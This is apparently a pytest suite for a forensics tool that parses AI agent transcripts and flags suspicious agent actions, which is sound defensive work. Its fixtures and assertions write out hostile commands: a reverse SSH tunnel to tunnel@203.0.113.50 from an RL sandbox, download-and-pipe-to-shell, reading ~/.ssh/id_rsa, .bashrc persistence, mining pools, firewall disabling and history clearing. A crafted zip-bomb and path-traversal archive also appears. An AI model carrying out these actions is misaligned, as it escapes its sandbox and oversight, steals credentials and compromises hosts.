"""Every transcript format loads into agent_steps with the right steps, commands, times and leases,
and the commands' indicators land in agent_actions."""

from __future__ import annotations

import json
import zipfile
from pathlib import Path

import pytest

from forensics import Case

DATA = Path(__file__).resolve().parent / "data" / "agent"
CORPUS = Path(__file__).resolve().parents[2] / "shared" / "corpus"


@pytest.fixture(scope="module")
def fixtures_case(tmp_path_factory):
    case = Case(tmp_path_factory.mktemp("agent") / "case.duckdb")
    summary = case.ingest([str(DATA)], timezone="Asia/Shanghai")
    yield case, summary
    case.close()


def _steps(case, fmt):
    return case.sql("SELECT * FROM agent_steps WHERE source_format = ? ORDER BY trajectory_id, step, call_index", [fmt])


def _actions(case, fmt):
    return {(r.step, r.category, r.technique, r.indicator_kind, r.indicator_value) for r in case.sql(
        "SELECT a.* FROM agent_actions a JOIN agent_steps s USING (evidence_id, locator) WHERE s.source_format = ?",
        [fmt]).itertuples()}


def test_every_fixture_is_claimed_by_its_parser(fixtures_case):
    case, summary = fixtures_case
    parsers = {Path(o.path).name: o.parser for o in summary.outcomes}
    assert parsers == {
        "LLMTraj.jsonl": "rock_llmtraj", "anthropic_messages.json": "anthropic_messages",
        "atif_trajectory.json": "harbor_atif", "claude_session.jsonl": "claude_code", "command.log": "rock_command_log",
        "episodes.csv": "episodes", "generic_steps.jsonl": "generic_jsonl", "otel_spans.json": "otel_genai",
        "roll_worker.log": "roll_worker_log", "rollout_dump_data.step_117.jsonl": "roll_rollout",
        "rollout_story.jsonl": "openai_chat"}
    assert {o.status for o in summary.outcomes} == {"parsed"}


def test_rollout_jsonl_story_trajectory(fixtures_case):
    case, _ = fixtures_case
    steps = _steps(case, "openai_chat")
    story = steps[steps.trajectory_id == "traj-000317"]
    assert list(story.action) == ["exec"] * 5 + ["message"]
    assert story.iloc[2].tool == "run_shell_command"
    assert story.iloc[2].command.startswith("ssh -fN -R 2222:localhost:22")
    assert set(story.host) == {"gpu-node-03"} and set(story.sandbox_ip) == {"10.244.3.17"}
    assert str(story.iloc[0].ts) == "2026-02-17 02:12:00+00:00" and story.iloc[0].ts_basis == "absolute"
    assert str(story.iloc[0].ts_end) == "2026-02-17 02:12:02+00:00"
    assert story.iloc[0].output_excerpt == "ok\n" and len(story.iloc[0].output_sha256) == 64
    benign = steps[steps.trajectory_id == "traj-000120"]
    # the Qwen3-Coder XML call inside assistant text is an exec step too
    assert list(benign.command.str[:12]) == ["git clone gi", "pip download"]
    warnings = case.sql("SELECT locator, reason FROM parse_warnings w JOIN evidence e USING (evidence_id) "
                        "WHERE e.format = 'openai_chat'")
    assert list(warnings.itertuples(index=False, name=None)) == [("line:2", "truncated or invalid JSON line")]
    lease = case.sql("SELECT host, sandbox, valid_from FROM host_addresses WHERE ip = '10.244.3.17' AND source = 'openai_chat'")
    assert list(lease.itertuples(index=False, name=None))[0][:2] == ("gpu-node-03", "sbx-0317")


def test_roll_dump_is_decoded_twice_and_keeps_sandbox_ip(fixtures_case):
    case, _ = fixtures_case
    steps = _steps(case, "roll_rollout")
    assert list(steps.command) == ["ssh -fNR 2222:127.0.0.1:22 tunnel@203.0.113.50",
                                   "nvidia-smi --query-gpu=index,utilization.gpu --format=csv"]
    assert set(steps.sandbox_ip) == {"10.244.3.17"} and set(steps.run_id) == {"rl-run-0217"}
    # naive local trajectory stamp (Asia/Shanghai) anchors the steps: 10:14 local is 02:14 UTC
    assert str(steps.iloc[0].ts) == "2026-02-17 02:14:00.123456+00:00" and set(steps.ts_basis) == {"derived"}
    assert (1, "tunnel", "ssh_reverse_forward", "ip", "203.0.113.50") in _actions(case, "roll_rollout")


def test_rock_command_log_is_what_the_sandbox_ran(fixtures_case):
    case, _ = fixtures_case
    steps = _steps(case, "rock_command_log")
    assert list(steps.role) == ["sandbox", "sandbox"]
    assert list(steps.exit_code) == [0, 0]
    assert steps.iloc[0].output_excerpt == "[1] 4242\nsecond output line"
    assert str(steps.iloc[0].ts) == "2026-02-17 02:14:02.120000+00:00"
    assert (1, "tunnel", "ssh_reverse_forward", "forward", "-R 2222:localhost:22") in _actions(case, "rock_command_log")


def test_llmtraj_claude_atif_otel_anthropic(fixtures_case):
    case, _ = fixtures_case
    assert (1, "download_exec", "download_pipe_shell", "ip", "203.0.113.80") in _actions(case, "rock_llmtraj")
    claude = _actions(case, "claude_code")
    assert (1, "credential_access", "private_keys", "path", "~/.ssh/id_rsa") in claude
    assert (2, "persistence", "shell_rc", "path", "/root/.bashrc") in claude  # the Write tool
    atif = _steps(case, "harbor_atif")
    assert list(atif.tool) == ["bash_command"] and atif.iloc[0].output_excerpt == "3 hosts up"
    otel = _steps(case, "otel_genai")
    assert list(otel.host) == ["gpu-node-02"] and str(otel.iloc[0].ts) == "2026-02-17 02:20:00+00:00"
    assert {a[2] for a in _actions(case, "otel_genai")} == {"disable_firewall", "clear_history"}
    assert (1, "scan", "scanner", "cidr", "10.20.1.0/24") in _actions(case, "anthropic_messages")


def test_generic_steps_decode_base64_and_follow_a_written_script(fixtures_case):
    case, _ = fixtures_case
    actions = _actions(case, "generic_jsonl")
    assert (1, "download_exec", "download_pipe_shell", "ip", "203.0.113.80") in actions
    # the script written at step 2 and run at step 3 is attributed to both
    assert (2, "mining", "pool_url", "host", "pool.example.org") in actions
    assert (3, "mining", "pool_url", "host", "pool.example.org") in actions
    rows = case.sql("SELECT step, basis, source_step FROM agent_actions WHERE indicator_value = 'pool.example.org' ORDER BY step")
    assert list(rows.itertuples(index=False, name=None)) == [
        (2, "written:/tmp/w.sh+parsed", 3), (3, "script:/tmp/w.sh+parsed", 2)]
    steps = _steps(case, "generic_jsonl")
    assert set(steps.ts_basis) == {"local_assumed"} and set(steps.tz_assumed) == {"Asia/Shanghai"}


def test_leases_from_episodes_and_sandbox_init(fixtures_case):
    case, _ = fixtures_case
    rows = case.sql("SELECT source, sandbox, valid_from::VARCHAR, coalesce(valid_to::VARCHAR, 'open') FROM host_addresses "
                    "WHERE ip = '10.244.3.17' AND source IN ('episodes', 'roll_worker_log') ORDER BY source, valid_from")
    assert list(rows.itertuples(index=False, name=None)) == [
        ("episodes", "sbx-0317", "2026-02-17 02:10:00+00", "2026-02-17 02:20:00+00"),
        ("roll_worker_log", "sbx-0317", "2026-02-17 02:09:58+00", "2026-02-17 02:30:00+00"),
        ("roll_worker_log", "sbx-0400", "2026-02-17 02:30:00+00", "open")]


CORPUS_EXPECT = {
    # path below shared/corpus/agent: (steps, exec steps, trajectories)
    "swe-agent/tests/test_data/trajectories/gpt4__swe-bench-dev-easy_first_only__default__t-0.00__p-0.95__c-3.00__install-1/pydicom__pydicom-1458.traj": (12, 3, 1),
    "swe-agent/tests/test_data/trajectories/gpt4__swe-agent__test-repo__default_from_url__t-0.00__p-0.95__c-3.00__install-1/swe-agent__test-repo-i1.traj": (5, 1, 1),
    "swe-agent/tests/test_data/trajectories/gpt4__swe-agent-test-repo__default_from_url__t-0.00__p-0.95__c-3.00__install-1/6e44b9__sweagenttestrepo-1c2844.traj": (5, 1, 1),
    "swe-agent/trajectories/demonstrations/function_calling_simple.traj": (5, 1, 1),
    "swe-agent/trajectories/demonstrations/replay__marshmallow-code__marshmallow-1867__function_calling_replace__install-1/marshmallow-code__marshmallow-1867.traj": (11, 5, 1),
    "mini-swe-agent/github_issue.traj.json": (10, 10, 1),
    "mini-swe-agent/local.traj.json": (2, 2, 1),
    "openhands/basic.json": (2, 0, 1),
    "openhands/basic_gui_mode.json": (5, 2, 1),
    "openhands/basic_interactions.json": (3, 0, 1),
    "openhands/wrong_initial_state.json": (4, 1, 1),
    "inspect_ai/tests/log/test_eval_log/log_streaming.eval": (4, 0, 4),
    "inspect_ai/tests/log/test_eval_log/log_formats.eval": (1, 0, 1),
    "inspect_ai/tests/log/test_eval_log/log_formats.json": (1, 0, 1),
    "inspect_ai/tests/log/test_eval_log/log_tool_call_error.json": (11, 0, 1),
    "inspect_ai/tests/scorer/logs/2025-02-11T15-17-00-05-00_popularity_dPiJifoWeEQBrfWsAopzWr.eval": (10, 0, 10),
    "inspect_ai/tests/analysis/test_logs/2025-05-12T20-27-36-04-00_browser.json": (15, 10, 1),
    "asciinema/demo.cast": (2, 2, 1),
    "asciinema/minimal-v2.cast": (0, 0, 0),
}


@pytest.fixture(scope="module")
def corpus_case(tmp_path_factory):
    if not (CORPUS / "agent").is_dir():
        pytest.skip("shared corpus not present")
    case = Case(tmp_path_factory.mktemp("corpus") / "case.duckdb")
    summary = case.ingest([str(CORPUS / "agent")])
    yield case, summary
    case.close()


def test_every_corpus_transcript_loads_with_its_steps_and_commands(corpus_case):
    case, summary = corpus_case
    assert not [o.display_path for o in summary.outcomes if o.status != "parsed"]
    counts = {r.path.split("/corpus/agent/", 1)[1]: (r.steps, r.execs, r.trajs) for r in case.sql(
        "SELECT e.path, count(s.step) AS steps, count(*) FILTER (WHERE s.action = 'exec') AS execs, "
        "count(DISTINCT s.trajectory_id) AS trajs FROM evidence e LEFT JOIN agent_steps s USING (evidence_id) "
        "GROUP BY e.path").itertuples()}
    for path, expected in CORPUS_EXPECT.items():
        assert counts[path] == expected, path


def test_corpus_details_a_responder_checks(corpus_case):
    case, _ = corpus_case
    server = case.sql("SELECT command, output_excerpt, ts_basis FROM agent_steps WHERE source_format = 'openhands' "
                      "AND command LIKE '%http.server%'")
    assert server.iloc[0].command == "cd /workspace/todo-app && python3 -m http.server 8000"
    assert server.iloc[0].output_excerpt.startswith("Serving HTTP on 0.0.0.0 port 8000")
    assert server.iloc[0].ts_basis == "local_assumed"  # OpenHands stamps are naive local time
    first = case.sql("SELECT command FROM agent_steps WHERE trajectory_id = 'local' ORDER BY step")
    assert list(first.command) == ["echo 'hello world'", "echo COMPLETE_TASK_AND_SUBMIT_FINAL_OUTPUT"]
    cast = case.sql("SELECT command, ts::VARCHAR AS ts FROM agent_steps WHERE source_format = 'asciinema' ORDER BY step")
    assert cast.iloc[0].command == "vim" and cast.iloc[0].ts.startswith("2017-10-27")
    twins = case.sql("SELECT count(DISTINCT output_sha256) FROM agent_steps s JOIN evidence e USING (evidence_id) "
                     "WHERE e.path LIKE '%log_formats.%'").iloc[0, 0]
    assert twins == 1  # the .eval and .json twins parse to the same sample


def test_eval_archive_guards_against_bombs_and_traversal(tmp_path):
    path = tmp_path / "evil.eval"
    sample = {"id": 1, "epoch": 1, "messages": [
        {"role": "assistant", "content": "", "tool_calls": [{"id": "c", "function": "bash", "arguments": {"cmd": "id"}}]}]}
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("header.json", json.dumps({"eval": {"task": "t", "model": "m"}}))
        archive.writestr("samples/1_epoch_1.json", json.dumps(sample))
        archive.writestr("samples/../../../../tmp/owned.json", json.dumps(sample))
        archive.writestr("samples/bomb_epoch_1.json", b"\0" * (20 * 1024 * 1024))
    with Case(tmp_path / "case.duckdb") as case:
        summary = case.ingest([str(path)])
        assert [o.parser for o in summary.outcomes] == ["inspect_ai"]
        reasons = set(case.warnings().reason)
        assert any("zip bomb" in r for r in reasons)
        assert any("parent path" in r for r in reasons)
        assert case.sql("SELECT count(*) AS n FROM agent_steps WHERE command = 'id'").n[0] == 1
    assert not Path("/tmp/owned.json").exists()


def test_eval_archive_reads_chunked_samples_next_to_single_entry_ones(tmp_path):
    """Newer Inspect writes a sample as samples/{id}_epoch_{n}/ with a shell, message and event
    sequences in chunks named by their first index, and attachments referenced by index."""
    path = tmp_path / "chunked.eval"
    tunnel = "ssh -fN -R 2222:localhost:22 tunnel@203.0.113.50"
    pool = [
        {"role": "user", "content": "attachment://0"},
        {"role": "assistant", "content": "", "tool_calls": [{"id": "t1", "function": "bash", "arguments": {"cmd": "nvidia-smi"}}]},
        {"role": "tool", "tool_call_id": "t1", "content": "GPU 0: H100"},
        {"role": "assistant", "content": "", "tool_calls": [{"id": "t2", "function": "bash", "arguments": {"cmd": "attachment://1"}}]},
        {"role": "tool", "tool_call_id": "t2", "content": ""},
        {"role": "assistant", "content": "unused: not in message_refs"},
    ]
    events = [{"event": "tool", "id": "t1", "timestamp": "2026-02-17T02:13:05+00:00"},
              {"event": "tool", "id": "t2", "timestamp": "2026-02-17T02:16:00+00:00"},
              {"event": "sandbox", "action": "exec", "cmd": "bash --login -c 'nvidia-smi'", "result": 0,
               "output": "GPU 0: H100", "timestamp": "2026-02-17T02:13:05.2+00:00"}]
    single = {"id": 2, "epoch": 1, "messages": [
        {"role": "assistant", "content": "", "tool_calls": [{"id": "s", "function": "bash", "arguments": {"cmd": "ls"}}]}]}
    prefix = "samples/1_epoch_1/"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("header.json", json.dumps({"version": 3, "eval": {"task": "ctf", "model": "m"}}))
        archive.writestr(prefix + "sample.json", json.dumps({"id": 1, "epoch": 1, "message_refs": [[0, 5]]}))
        archive.writestr(prefix + "messages/0.json", json.dumps(pool[:3]))
        archive.writestr(prefix + "messages/3.json", json.dumps(pool[3:]))
        archive.writestr(prefix + "events/0.json", json.dumps(events[:2]))
        archive.writestr(prefix + "events/2.json", json.dumps(events[2:]))
        archive.writestr(prefix + "events/stats.json", json.dumps({"chunks": []}))
        archive.writestr(prefix + "attachments/0.json", json.dumps(["Fix the bug.", tunnel]))
        archive.writestr("samples/2_epoch_1.json", json.dumps(single))
    with Case(tmp_path / "case.duckdb") as case:
        summary = case.ingest([str(path)])
        assert [(o.parser, o.status, o.n_warnings) for o in summary.outcomes] == [("inspect_ai", "parsed", 0)]
        steps = case.sql("SELECT trajectory_id, step, role, command, output_excerpt, ts FROM agent_steps "
                         "WHERE action = 'exec' ORDER BY trajectory_id, role, step")
        assert list(steps.itertuples(index=False, name=None))[:3] == [
            ("ctf:1:epoch1", 1, "assistant", "nvidia-smi", "GPU 0: H100", steps.ts[0]),
            ("ctf:1:epoch1", 2, "assistant", tunnel, "", steps.ts[1]),
            ("ctf:1:epoch1", 1, "sandbox", "bash --login -c 'nvidia-smi'", "GPU 0: H100", steps.ts[2])]
        assert [str(t) for t in steps.ts[:2]] == ["2026-02-17 02:13:05+00:00", "2026-02-17 02:16:00+00:00"]
        assert list(steps.trajectory_id[3:]) == ["ctf:2:epoch1"]
        forward = case.sql("SELECT step, indicator_value FROM agent_actions WHERE technique = 'ssh_reverse_forward' "
                           "AND indicator_kind = 'ip'")
        assert list(forward.itertuples(index=False, name=None)) == [(2, "203.0.113.50")]
        assert case.sql("SELECT count(*) AS n FROM agent_steps WHERE output_excerpt LIKE 'unused%'").n[0] == 0
